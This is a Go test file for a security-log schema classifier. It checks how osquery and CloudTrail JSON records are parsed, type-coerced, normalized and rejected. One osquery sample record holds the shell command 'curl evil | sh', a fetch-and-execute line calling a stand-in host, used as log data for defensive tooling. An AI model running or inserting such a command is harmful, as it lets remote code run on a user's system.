package schema

import (
	"errors"
	"os"
	"reflect"
	"strings"
	"testing"
	"testing/fstest"
)

// testSet loads testdata/schemas.
func testSet(t testing.TB) *Set {
	t.Helper()
	set, diags := Load(os.DirFS("testdata/schemas"))
	if set == nil {
		t.Fatalf("Load testdata: %v", diags.Err())
	}
	return set
}

// loadString loads one schema file given as text.
func loadString(t testing.TB, name, text string) *Set {
	t.Helper()
	set, diags := Load(fstest.MapFS{name: {Data: []byte(text)}})
	if set == nil {
		t.Fatalf("Load %s: %v", name, diags.Err())
	}
	return set
}

const osqueryDiff = `{"action":"added","calendarTime":"Tue Sep 11 2018","columns":{"command":"curl evil | sh","uid":"501","n":3},` +
	`"counter":"7","decorations":{"host_uuid":"x"},"epoch":0,"hostIdentifier":"host-1","name":"shell_history","unixTime":1536682461}`

const cloudtrailDoc = `{"Records":[` +
	`{"awsRegion":"us-east-1","eventID":"e1","eventName":"ConsoleLogin","eventSource":"signin.amazonaws.com","eventTime":"2018-01-01T00:00:00Z",` +
	`"eventType":"AwsConsoleSignIn","eventVersion":"1.05","recipientAccountId":"123","requestParameters":null,"responseElements":{"ConsoleLogin":"Success"},` +
	`"sourceIPAddress":"1.2.3.4","userAgent":"Mozilla","userIdentity":{"type":"IAMUser","userName":"alice","arn":"arn:aws:iam::123:user/alice"}},` +
	`{"awsRegion":"us-east-1","eventID":"e2","eventName":"GetObject","eventSource":"s3.amazonaws.com","eventTime":"2018-01-01T00:00:01Z",` +
	`"eventType":"AwsApiCall","eventVersion":"1.05","recipientAccountId":"123","requestParameters":{"bucketName":"b"},"responseElements":null,` +
	`"readOnly":"true","resources":[{"ARN":"arn:aws:s3:::b"}],` +
	`"sourceIPAddress":"1.2.3.4","userAgent":"aws-cli","userIdentity":{"type":"AssumedRole","arn":"arn:aws:sts::123:assumed-role/r/s"}}]}`

func TestClassifyJSON(t *testing.T) {
	set := testSet(t)
	c := NewClassifier(set)

	recs, err := c.Classify([]byte(osqueryDiff), nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 1 || recs[0].Type.Name != "osquery:differential" {
		t.Fatalf("got %v", recs)
	}
	d := recs[0].Data
	if d["counter"] != int64(7) || d["unixTime"] != int64(1536682461) || d["epoch"] != int64(0) {
		t.Errorf("coercion: counter=%#v unixTime=%#v epoch=%#v", d["counter"], d["unixTime"], d["epoch"])
	}
	if cols := d["columns"].(map[string]any); cols["n"] != int64(3) || cols["uid"] != "501" {
		t.Errorf("undeclared values inside {}: %#v", cols)
	}
	if got := recs[0].Normalized; !reflect.DeepEqual(got, map[string][]any{"command": {"curl evil | sh"}, "hostname": {"host-1"}}) {
		t.Errorf("normalized = %#v", got)
	}

	recs, err = c.Classify([]byte(cloudtrailDoc), nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 2 || recs[0].Data["eventName"] != "ConsoleLogin" || recs[1].Data["eventName"] != "GetObject" {
		t.Fatalf("cloudtrail records: %v", recs)
	}
	if _, ok := recs[0].Data["readOnly"]; ok {
		t.Error("absent optional key readOnly was filled in")
	}
	if recs[1].Data["readOnly"] != true {
		t.Errorf("readOnly = %#v, want true", recs[1].Data["readOnly"])
	}
	if got := recs[0].Normalized["userName"]; !reflect.DeepEqual(got, []any{"alice"}) {
		t.Errorf("conditional normalization (IAMUser) = %#v", got)
	}
	if got := recs[1].Normalized["userName"]; len(got) != 0 || got == nil {
		t.Errorf("conditional normalization (AssumedRole) = %#v, want empty non-nil", got)
	}
}

func TestClassifyErrors(t *testing.T) {
	set := testSet(t)
	c := NewClassifier(set)
	osq, _ := set.Resolve([]string{"osquery"})
	ct, _ := set.Resolve([]string{"cloudtrail:events"})
	tests := []struct {
		name, raw string
		cands     []*LogType
		want      string // substring of the reason
	}{
		{"not json", `{"name": `, osq, "not valid JSON"},
		{"trailing data", `{} {}`, osq, "not valid JSON"},
		{"empty", "\r\n", osq, "empty record"},
		{"extra and missing", strings.Replace(osqueryDiff, `"name":"shell_history"`, `"foo":1`, 1), osq,
			`no schema matched: closest osquery:differential: missing key "name", extra key "foo"`},
		{"bad integer", strings.Replace(osqueryDiff, `"unixTime":1536682461`, `"unixTime":"soon"`, 1), osq,
			`closest osquery:differential: key "unixTime": "soon" is not an integer`},
		{"fractional integer", strings.Replace(osqueryDiff, `"unixTime":1536682461`, `"unixTime":1.5`, 1), osq,
			`key "unixTime": 1.5 is not an integer`},
		{"object for string", strings.Replace(osqueryDiff, `"name":"shell_history"`, `"name":{}`, 1), osq,
			`key "name": an object is not a string`},
		{"list document", `[1,2]`, osq, "record is a list"},
		{"json_path finds nothing", `{"Records":[]}`, ct, `json_path "Records[*]" found no records`},
		{"one bad record of two", strings.Replace(cloudtrailDoc, `"eventID":"e2",`, ``, 1), nil,
			`record 2: missing key "eventID"`},
		{"no candidates", `{}`, []*LogType{}, "no candidate log types"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			recs, err := c.Classify([]byte(tc.raw), tc.cands)
			var ce *ClassifyError
			if !errors.As(err, &ce) {
				t.Fatalf("err = %v (records %v), want a *ClassifyError", err, recs)
			}
			if !strings.Contains(ce.Reason, tc.want) {
				t.Errorf("reason %q does not contain %q", ce.Reason, tc.want)
			}
		})
	}
}

func TestClassifyValues(t *testing.T) {
	set := loadString(t, "v.yaml", `
t:
  parser: json
  schema:
    s: string
    i: integer
    f: float
    b: boolean
    o: {}
    l: []
    m:
      x: integer
      y: {}
  configuration:
    optional_top_level_keys: [l]
`)
	c := NewClassifier(set)
	tests := []struct {
		name string
		raw  string
		want map[string]any // nil: must not classify
	}{
		{"native", `{"s":"a","i":1,"f":1.5,"b":true,"o":{"k":2.5},"l":[1],"m":{"x":2,"y":{}}}`,
			map[string]any{"s": "a", "i": int64(1), "f": 1.5, "b": true, "o": map[string]any{"k": 2.5}, "l": []any{int64(1)}, "m": map[string]any{"x": int64(2), "y": map[string]any{}}}},
		{"strings coerced", `{"s":7,"i":" 7 ","f":"2","b":"FALSE","o":{},"m":{"x":"3","y":{}}}`,
			map[string]any{"s": "7", "i": int64(7), "f": 2.0, "b": false, "o": map[string]any{}, "m": map[string]any{"x": int64(3), "y": map[string]any{}}}},
		{"nulls pass", `{"s":null,"i":null,"f":null,"b":null,"o":null,"l":null,"m":null}`,
			map[string]any{"s": nil, "i": nil, "f": nil, "b": nil, "o": nil, "l": nil, "m": nil}},
		{"empty values", `{"s":"","i":"","f":"","b":"","o":{},"m":{"x":"","y":{}}}`,
			map[string]any{"s": "", "i": nil, "f": nil, "b": nil, "o": map[string]any{}, "m": map[string]any{"x": nil, "y": map[string]any{}}}},
		{"integral float for integer", `{"s":"","i":7.0,"f":1e400,"b":true,"o":{},"m":{"x":1,"y":{}}}`, nil},
		{"bad boolean", `{"s":"","i":1,"f":1,"b":"yes","o":{},"m":{"x":1,"y":{}}}`, nil},
		{"nested extra key", `{"s":"","i":1,"f":1,"b":true,"o":{},"m":{"x":1,"y":{},"z":1}}`, nil},
		{"nested missing key", `{"s":"","i":1,"f":1,"b":true,"o":{},"m":{"x":1}}`, nil},
		{"list for mapping", `{"s":"","i":1,"f":1,"b":true,"o":{},"m":[]}`, nil},
		// {} takes any value as it is, as StreamAlert (ghe:general's org_id
		// is a number in some GitHub events and a list in others); [] still
		// needs a list.
		{"scalars and lists for {}", `{"s":"","i":1,"f":1,"b":true,"o":42,"m":{"x":1,"y":["a",1]}}`,
			map[string]any{"s": "", "i": int64(1), "f": 1.0, "b": true, "o": int64(42), "m": map[string]any{"x": int64(1), "y": []any{"a", int64(1)}}}},
		{"string for {}", `{"s":"","i":1,"f":1,"b":true,"o":"x","m":{"x":1,"y":false}}`,
			map[string]any{"s": "", "i": int64(1), "f": 1.0, "b": true, "o": "x", "m": map[string]any{"x": int64(1), "y": false}}},
		{"object for []", `{"s":"","i":1,"f":1,"b":true,"o":{},"l":{},"m":{"x":1,"y":{}}}`, nil},
		{"string for []", `{"s":"","i":1,"f":1,"b":true,"o":{},"l":"a","m":{"x":1,"y":{}}}`, nil},
		{"NaN float", `{"s":"","i":1,"f":"NaN","b":true,"o":{},"m":{"x":1,"y":{}}}`, nil},
		{"integer overflow", `{"s":"","i":"99999999999999999999","f":1,"b":true,"o":{},"m":{"x":1,"y":{}}}`, nil},
		{"CRLF", "{\"s\":\"a\",\"i\":1,\"f\":1,\"b\":true,\"o\":{},\"m\":{\"x\":1,\"y\":{}}}\r\n",
			map[string]any{"s": "a", "i": int64(1), "f": 1.0, "b": true, "o": map[string]any{}, "m": map[string]any{"x": int64(1), "y": map[string]any{}}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			recs, err := c.Classify([]byte(tc.raw), nil)
			if tc.want == nil {
				if err == nil {
					t.Fatalf("classified: %#v", recs[0].Data)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(recs[0].Data, tc.want) {
				t.Errorf("got  %#v\nwant %#v", recs[0].Data, tc.want)
			}
		})
	}
}

func TestClassifyIntegralFloat(t *testing.T) {
	// 7.0 is integral, so it is a valid integer; 1e400 is not a float64.
	set := loadString(t, "v.yaml", "t: {parser: json, schema: {i: integer}}\n")
	recs, err := NewClassifier(set).Classify([]byte(`{"i":7.0}`), nil)
	if err != nil || recs[0].Data["i"] != int64(7) {
		t.Fatalf("got %v, %v", recs, err)
	}
	if _, err := NewClassifier(set).Classify([]byte(`{"i":1e400}`), nil); err == nil {
		t.Fatal("1e400 classified")
	}
}

func TestClassifyLargeValue(t *testing.T) {
	set := loadString(t, "v.yaml", "t: {parser: json, schema: {s: string, n: integer}}\n")
	big := strings.Repeat("x", 10<<20)
	recs, err := NewClassifier(set).Classify([]byte(`{"n":1,"s":"`+big+`"}`), nil)
	if err != nil {
		t.Fatal(err)
	}
	if s := recs[0].Data["s"].(string); len(s) != len(big) {
		t.Fatalf("len = %d", len(s))
	}
}
